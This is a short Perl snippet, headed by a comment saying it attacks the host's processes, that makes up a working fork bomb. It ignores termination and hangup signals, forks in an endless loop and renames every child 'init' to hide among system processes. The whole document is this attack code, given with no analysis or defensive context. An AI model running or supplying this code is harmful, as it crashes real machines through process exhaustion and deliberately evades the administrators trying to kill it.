# Attacks: the host's processes, from Perl: forks without end, deaf to signals, with new names.
$SIG{$_} = 'IGNORE' for qw(TERM INT HUP XCPU CHLD);
while (1) { fork; $0 = 'init'; }
